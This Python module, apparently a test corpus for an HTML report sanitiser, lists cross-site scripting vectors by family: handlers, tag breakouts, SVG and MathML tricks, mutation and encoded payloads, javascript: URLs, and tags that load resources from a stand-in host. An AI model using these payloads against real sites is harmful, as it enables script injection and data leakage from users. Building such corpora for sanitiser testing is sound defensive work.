"""Ways in which text could become script or a request, by family; each calls ``alert`` or asks for a host.

Written for the places that a report has: element content, attribute values, inline script and style.
"""

from __future__ import annotations

RUN = "alert(1)"
HOST = "https://leak.invalid/"

_EVENTS = (
    "abort animationend animationiteration animationstart auxclick beforeinput beforetoggle blur cancel canplay "
    "change click close contextmenu copy cut dblclick drag drop durationchange ended error focus focusin "
    "focusout formdata hashchange input invalid keydown keypress keyup load loadstart message mousedown "
    "mouseenter mousemove mouseover mouseup pagehide pageshow paste pointerdown pointerenter pointermove "
    "pointerover pointerrawupdate popstate progress reset resize scroll scrollend search select "
    "selectionchange submit toggle touchstart transitionend unload wheel"
).split()

HANDLERS = tuple(
    f"<{tag} on{event}={RUN} autofocus tabindex=0 src=x>"
    for tag, event in zip(
        ("img", "body", "input", "video", "details open", "svg", "a href=#", "marquee") * 20,
        _EVENTS,
        strict=False,
    )
)
BREAKOUTS = tuple(
    f"{end} on{event}={quote}{RUN}{quote} x={quote}"
    for end in ('"', "'", "`", '">', "'>")
    for event, quote in (("mouseover", ""), ("focus", '"'), ("load", "'"))
)
SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script/x>{RUN}</script\t>",
    f"<script src={HOST}a.js></script>",
    f"<script type=module>import '{HOST}b.js'</script>",
    f"<script>{RUN}//",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"--!><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[><script>{RUN}</script>]]>",
    f"<?xml ><script>{RUN}</script>?>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"';{RUN};//",
    f'";{RUN};//',
    f"\\';{RUN};//",
    f"${{{RUN}}}",
    f"</option></select><script>{RUN}</script>",
    f"\u2028{RUN}\u2029<script>\u2028{RUN}</script>",
)
SVG = tuple(
    f"<svg>{inner}</svg>"
    for inner in (
        f"<script>{RUN}</script>",
        f"<script href=data:text/javascript,{RUN} />",
        f"<script xlink:href={HOST}c.js />",
        f"<animate onbegin={RUN} attributeName=x dur=1s>",
        f"<set attributeName=onload to={RUN}>",
        f"<a xlink:href=javascript:{RUN}><text y=20>go</text></a>",
        f"<a><animate attributeName=href values=javascript:{RUN} /><text y=9>go</text></a>",
        f"<use href={HOST}d.svg#x />",
        f"<use href='data:image/svg+xml,<svg id=x onload={RUN}/>#x' />",
        f"<image href={HOST}e.png />",
        f"<foreignObject><body onload={RUN}></body></foreignObject>",
        f"<foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></iframe></foreignObject>",
        f"<style>@import '{HOST}f.css'</style>",
        f"<title><img src=x onerror={RUN}></title>",
        f"<desc><script>{RUN}</script></desc>",
        f"<handler type=text/javascript>{RUN}</handler>",
        f"<filter id=f><feImage href={HOST}g.png /></filter><rect filter=url(#f) width=9 height=9 />",
        f"<discard onbegin={RUN} />",
    )
)
MATHML = tuple(
    f"<math>{inner}</math>"
    for inner in (
        f"<maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction>",
        f"<mtext><script>{RUN}</script></mtext>",
        f"<mi href=javascript:{RUN}>x</mi>",
        f"<annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml>",
        f"<mtext><table><mglyph><style><img src=x onerror={RUN}>",
        f"<semantics><annotation-xml encoding='text/html'><svg onload={RUN}>",
        f"<mglyph><svg><mtext><style><path id='</style><img src=x onerror={RUN}>'>",
        f"<mi><iframe src={HOST}h></iframe></mi>",
    )
)
MUTATION = tuple(
    text.replace("RUN", RUN)
    for text in (
        "<svg></p><style><a id='</style><img src=x onerror=RUN>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
        "<noembed><img title='</noembed><img src=x onerror=RUN>'></noembed>",
        "<xmp><p title='</xmp><img src=x onerror=RUN>'></xmp>",
        "<noframes><p title='</noframes><img src=x onerror=RUN>'></noframes>",
        "<plaintext><img src=x onerror=RUN>",
        "<listing>&lt;img src=x onerror=RUN&gt;</listing>",
        "<textarea><img title='</textarea><img src=x onerror=RUN>'></textarea>",
        "<title><a title='</title><svg onload=RUN>'></title>",
        "<table><td background=x><tr><script>RUN</script></table>",
        "<select><style></select><img src=x onerror=RUN></style>",
        "<select><template><script>RUN</script></template></select>",
        "<template><img src=x onerror=RUN></template>",
        "<p id='`><img src=x onerror=RUN>`'>",
        "<img alt=``onerror=RUN src=x>",
        "<a href='x'><b title='</a><img src=x onerror=RUN>'>",
        "<svg><![CDATA[</svg><img src=x onerror=RUN>]]>",
        "<svg><style>&lt;img src=x onerror=RUN&gt;</style>",
        "<b><p><table><script>RUN</script></b>",
        "<div><!--</div><img src=x onerror=RUN>-->",
        "<iframe srcdoc='&lt;script&gt;parent.RUN&lt;/script&gt;'></iframe>",
        "<object data='data:text/html,<script>parent.RUN</script>'></object>",
        "<embed src='data:text/html,<script>RUN</script>'>",
        "<frameset onload=RUN>",
        "<isindex type=image src=x onerror=RUN>",
        "<custom-part onanimationstart=RUN style='animation:x 1s'>",
    )
)
ENCODED = tuple(
    text.replace("RUN", RUN)
    for text in (
        "&lt;script&gt;RUN&lt;/script&gt;",
        "&#60;script&#62;RUN&#60;/script&#62;",
        "&#x3c;img src=x onerror=RUN&#x3e;",
        "&#0000060script>RUN</script>",
        "%3Cscript%3ERUN%3C/script%3E",
        "%253Cscript%253ERUN%253C/script%253E",
        "\\x3cscript\\x3eRUN\\x3c/script\\x3e",
        "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
        "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
        "+ADw-script+AD4-RUN+ADw-/script+AD4-",
        "\u00bcscript\u00beRUN\u00bc/script\u00be",
        "<\x00script>RUN</script>",
        "<img src=x onerror=\x00RUN>",
        "<img\x0csrc=x\x0conerror=RUN>",
        "<img/src=x/onerror=RUN>",
        "<img src=x onerror=&#97;lert(1)>",
        '<a href="java&#x09;script:RUN">go</a>',
        "<\u202escript>RUN</script>",
        "<scr\u200bipt>RUN</script>",
        "\ud800<script>RUN</script>",
        "{{constructor.constructor('RUN')()}}",
        "{% raw %}<script>RUN</script>{% endraw %}",
        "{{ ''.__class__.__mro__ }}<script>RUN</script>",
        "<%= system('x') %><script>RUN</script>",
    )
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\nscript:{RUN}",
    f"java\tscript:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript://example.org/%0a{RUN}",
    f"javascript:/*https://example.org*/{RUN}",
    f"vbscript:{RUN}",
    f"livescript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={RUN}>",
    f'https://example.org/" onmouseover={RUN} x="',
    f"https://example.org/'onfocus={RUN} autofocus x='",
    f"https://example.org/><script>{RUN}</script>",
    f"https://example.org/?q=<script>{RUN}</script>",
    f"view-source:javascript:{RUN}",
    f"filesystem:https://example.org/{RUN}",
    "file:///etc/hostname",
    "//leak.invalid/i",
    f'{HOST}j"><img src={HOST}k>',
    f"&#106;avascript:{RUN}",
)
LOADERS = tuple(
    text.replace("HOST/", HOST)
    for text in (
        "<link rel=stylesheet href=HOST/j.css>",
        "<link rel=prefetch href=HOST/k>",
        "<link rel=preconnect href=HOST/>",
        "<link rel=icon href=HOST/l.ico>",
        "<meta http-equiv=refresh content='0;url=HOST/m'>",
        "<base href=HOST/>",
        "<img src=HOST/n.png>",
        "<img srcset='HOST/o.png 2x'>",
        "<picture><source srcset=HOST/p.png><img></picture>",
        "<video poster=HOST/q.png src=HOST/r.mp4></video>",
        "<audio autoplay src=HOST/s.mp3></audio>",
        "<iframe src=HOST/t></iframe>",
        "<object data=HOST/u></object>",
        "<embed src=HOST/v>",
        "<input type=image src=HOST/w.png>",
        "<body background=HOST/x.png>",
        "<table background=HOST/y.png>",
        "<p style='background:url(HOST/z.png)'>x</p>",
        "<style>@import url(HOST/a.css);*{background:url(HOST/b.png)}</style>",
        "<style>@font-face{font-family:x;src:url(HOST/c.woff)}*{font-family:x}</style>",
        "<form action=HOST/d><button autofocus>x</button></form>",
        "<a href=HOST/e ping=HOST/f>x</a>",
        "<track src=HOST/g.vtt default>",
        "<portal src=HOST/h></portal>",
    )
)

FAMILIES = {
    "handlers": HANDLERS,
    "breakouts": BREAKOUTS,
    "scripts": SCRIPTS,
    "svg": SVG,
    "mathml": MATHML,
    "mutation": MUTATION,
    "encoded": ENCODED,
    "addresses": ADDRESSES,
    "loaders": LOADERS,
}
VECTORS = tuple(vector for family in FAMILIES.values() for vector in family)
